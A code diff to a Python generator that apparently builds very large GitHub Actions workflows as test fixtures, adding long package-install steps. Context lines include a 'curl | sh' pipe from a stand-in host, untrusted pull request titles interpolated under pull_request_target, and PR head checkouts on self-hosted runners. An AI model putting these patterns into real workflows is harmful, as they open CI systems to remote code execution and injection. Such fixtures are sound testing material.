@@ -65,6 +65,11 @@ def shapes():
         f"  j{i}:\n    if: contains(github.event.pull_request.labels.*.name, 'ok')\n    runs-on: [self-hosted, linux]\n"
         "    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n"
         + ''.join(f"      - run: make t{k}\n" for k in range(8)) for i in range(3000))
+    # Thousands of install commands, each with dozens of options and packages, in scripts just under the reading limit
+    # and in thousands of steps.
+    install = 'pip install ' + ' '.join(f'--target d{k} p{k}' for k in range(20)) + ' && npm i -g ' + ' '.join(f'q{k}@^1' for k in range(20))
+    out['package-installs'] = workflow('push', "      - run: |\n" + ''.join(f"{IND}{install}\n" for _ in range(130))
+        + ''.join(f"      - run: gem install r{i} && cargo install c{i} --locked\n" for i in range(3000)))
     out['remote-scripts'] = workflow('issue_comment', "      - run: |\n" + ''.join(f"{IND}curl -sSf https://x.example/{i}.sh | sh\n" for i in range(5000)))
     out['actions'] = workflow('pull_request_target', ''.join(f"      - uses: owner{i % 50}/action{i}@v1\n        with:\n          version: ${{{{ github.event.pull_request.title }}}}\n" for i in range(5000)))
     # Thousands of jobs that each need dozens (each need was once found by a walk over every job).
